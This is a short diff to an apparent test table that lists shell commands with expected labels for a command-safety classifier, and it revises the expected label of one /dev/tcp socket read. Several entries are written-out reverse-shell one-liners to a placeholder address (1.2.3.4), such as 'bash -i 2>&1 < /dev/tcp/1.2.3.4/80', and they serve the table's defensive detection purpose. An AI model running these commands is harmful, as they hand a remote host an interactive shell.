@@ -43,7 +43,9 @@ SOCKET_SHELL = [
     ('sh 0<>/dev/tcp/1.2.3.4/80 1>&0', 'DDDDD'),
     ('bash -i 2>&1 < /dev/tcp/1.2.3.4/80', 'DDDDD'),
     # held: a socket no shell reads, a shell's input from a file
-    ('cat <>/dev/tcp/1.2.3.4/80', 'KKKDD'),
+    # (probe round 35, residuals37: <>F of a plain word parses, as <F and a write of F: a
+    # network connection, KKADD as cat </dev/tcp/... is; it was KKKDD only as unparseable)
+    ('cat <>/dev/tcp/1.2.3.4/80', 'KKADD'),
     ('bash x.sh & cat </dev/tcp/1.2.3.4/80', 'KKADD'),
     ('bash script.sh < data.txt', 'KKADD'),
 ]
